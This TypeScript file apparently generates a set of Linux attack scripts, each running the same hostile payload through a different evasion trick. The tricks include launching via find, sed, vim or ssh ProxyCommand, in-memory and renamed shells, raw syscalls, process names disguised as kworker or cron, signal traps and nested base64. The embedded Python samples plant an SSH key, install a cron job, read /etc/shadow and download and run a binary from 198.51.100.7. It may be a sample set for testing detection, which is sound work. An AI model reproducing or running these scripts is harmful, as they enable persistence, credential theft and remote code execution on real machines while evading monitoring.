import { addJob, addKey, bash, fetchAndRun, job, key, payload, readHashes, run, url, veiled } from './linux-payload.ts';
import { base64, type Row } from './sample.ts';

/** What python does by itself, without a program that it starts (crontab has to be one). */
const inPython = `import os,subprocess,urllib.request
h=os.path.expanduser('~/.ss'+'h'); os.makedirs(h,exist_ok=True)
open(h+'/auth'+'orized_keys','a').write('${key}\\n')
subprocess.run(['cron'+'tab','-'],input=b'${job}\\n')
subprocess.run(['sudo','python3','-c','open(chr(47)+"etc"+chr(47)+"sha"+"dow").read()'])
open('/tmp/.u','wb').write(urllib.request.urlopen('http://198.51.'+'100.7/u').read()); os.chmod('/tmp/.u',0o755)
try: subprocess.run(['/tmp/.u'])
except OSError: pass
`;
/** Calls by number, without a name of the C library. */
const byNumber = `import ctypes,os
s=ctypes.CDLL(None).syscall
h=os.path.expanduser('~/.ssh').encode()
s(83,h,0o700); f=s(2,h+b'/authorized_keys',0x441,0o600); s(1,f,b'${key}\\n',80)
`;
const rest =
  (without: string) => run([addKey, addJob, readHashes, fetchAndRun].filter((part) => part !== without).join('\n'));
const inMemory = `import os
f=os.memfd_create('x'); os.write(f,open('/bin/bash','rb').read())
os.execve(
  '/proc/self/fd/%d'%f,['kworker/0:1','-c',
    os.popen("${veiled(payload)}")
    .read()],dict(HOME=os.environ['HOME'],PATH=os.environ['PATH']),
)
`;
const python = (text: string) => `python3 - <<'X'\n${text}X\n`;

const withCopies = [
  addKey, addJob, 'sudo /tmp/b/catx /etc/shadow > /tmp/.s',
  `/tmp/b/curlx -s ${url} -o /tmp/.u`, '/tmp/b/chmodx +x /tmp/.u; /tmp/.u',
].join('\n');

/** Who does it isn't who it seems to be. */
export const byStart: Row[] = [
  ['find', 'find starts it', 'aa.sh', bash(`find /etc/hostname -exec sh -c "$(${veiled(payload)})" \\; ; exit`)],
  ['xargs', 'xargs starts it', 'ab.sh', `#!/bin/sh\n${veiled(payload)} | tr '\\n' '\\0' | xargs -0 -n1 sh -c\n`],
  [
    'env-split',
    'env takes its words apart',
    'ac.sh',
    bash(`env -S "bash -c 'eval \\"\\$(${veiled(payload)})\\"'"; exit`),
  ],
  [
    'busybox',
    'busybox, whose commands are no programs',
    'ad.sh',
    `#!/bin/sh\n${veiled(payload)} > /tmp/p; busybox sh /tmp/p\n`,
  ],
  ['sed', 'sed evaluates it', 'ae.sh', `#!/bin/sh\n${veiled(payload)} > /tmp/p; echo 'sh /tmp/p' | sed e\n`],
  [
    'vim',
    'an editor starts it',
    'af.sh',
    `#!/bin/sh\n${veiled(payload)} > /tmp/p; vim.tiny -es -c '!sh /tmp/p' -c 'q!'\n`,
  ],
  ['python-alone', 'Python does it by itself', 'ag.py', `#!/usr/bin/env python3\n${inPython}`],
  ['python-veiled', 'the same, veiled', 'ah.sh', `#!/bin/sh\n${veiled(inPython)} | python3\n`],
  ['by-number', 'calls of the kernel by number', 'ai.sh', `#!/bin/bash\n${python(byNumber)}${rest(addKey)}\n`],
  ['in-memory', 'a shell in a file that only memory has', 'aj.sh', `#!/bin/bash\n${python(inMemory)}`],
  [
    'shared-memory',
    'a renamed shell in shared memory',
    'ak.sh',
    `#!/bin/sh\ncp /bin/bash /dev/shm/.x; ${veiled(payload)} | /dev/shm/.x\n`,
  ],
  ['renamed-tools', 'its tools are copies with other names', 'al.sh',
    bash('mkdir /tmp/b; for t in curl crontab cat chmod sudo; do cp $(command -v $t) /tmp/b/${t}x; done')
      .replace(run(), run(withCopies))],
  [
    'other-name',
    'a shell under the name of a kernel thread',
    'am.sh',
    `#!/bin/bash\n(exec -a '[kworker/u8:2]' bash -c "$(${veiled(payload)})")\n`,
  ],
  [
    'perl-name',
    'Perl gives itself another name',
    'an.pl',
    `#!/usr/bin/perl\n$0='/usr/sbin/cron -f'; open my $p,'-|',q(${veiled(payload)}); local $/; $x=<$p>; system $x;\n`,
  ],
  ['self-deleting', 'deletes itself first', 'ao.sh', bash('rm -f "$0"')],
  [
    'second-file',
    'writes a second script and leaves',
    'ap.sh',
    `#!/bin/sh\n${veiled(payload)} > ~/.cache.sh; chmod 700 ~/.cache.sh; setsid sh ~/.cache.sh >/dev/null 2>&1 &\n`,
  ],
  [
    'archive',
    'an archive within',
    'aq.sh',
    `#!/bin/sh\ncd /tmp; ${veiled(payload)} > p; tar czf - p | base64 > q; rm p; base64 -d q | tar xz; . ./p\n`,
  ],
  [
    'daemon',
    'double fork, session of its own',
    'ar.sh',
    `#!/bin/bash\n( ( setsid nohup bash -c "sleep 3; $(${veiled(payload)})" >/dev/null 2>&1 & ) & )\nexit 0\n`,
  ],
  [
    'pipe',
    'at the end of a long pipe',
    'as.sh',
    `#!/bin/sh\nyes | head -c 200000 | tr -d y | { cat >/dev/null; ${run()}; } | cat | cat\n`,
  ],
  [
    'signal',
    'acts when it is told to end',
    'at.sh',
    `#!/bin/bash\nact() { ${run()}; exit; }\ntrap act TERM\nwhile :; do sleep 1; done\n`,
  ],
  [
    'signal-itself',
    'acts on a signal of its own',
    'au.sh',
    `#!/bin/bash\nact() { ${run()}; }\ntrap act USR1\nkill -USR1 $$\nsleep 1\n`,
  ],
  ['exit', 'acts when it ends', 'av.sh', `#!/bin/bash\nact() { ${run()}; }\ntrap act EXIT\n`],
  [
    'prompt',
    'a hook of the shell before each command',
    'aw.sh',
    `#!/bin/bash\nact() { trap - DEBUG; ${run()}; }\ntrap act DEBUG\ntrue\n`,
  ],
  [
    'start-file',
    'through the start file of another shell',
    'ax.sh',
    `#!/bin/sh\n${veiled(payload)} > /tmp/rc; BASH_ENV=/tmp/rc bash -c true\n`,
  ],
  [
    'make',
    'the loader starts a renamed program',
    'ay.sh',
    `#!/bin/sh\n${veiled(payload)} > /tmp/p; cp /bin/dash /tmp/notes.txt; chmod -x /tmp/notes.txt; `
      + '/lib64/ld-linux-x86-64.so.2 /tmp/notes.txt /tmp/p\n',
  ],
  [
    'ssh-config',
    'ssh starts it as its proxy',
    'az.sh',
    `#!/bin/sh\n${veiled(payload)} > /tmp/p; ssh -o ProxyCommand='sh /tmp/p' -o BatchMode=yes a.example\n`,
  ],
  [
    'zip-in-zip',
    'a script that is data of another',
    'ba.sh',
    `#!/bin/sh\nprintf %s '${base64(base64(payload))}' > /tmp/photo.jpg; base64 -d /tmp/photo.jpg | base64 -d `
      + '> /tmp/c; . /tmp/c\n',
  ],
];
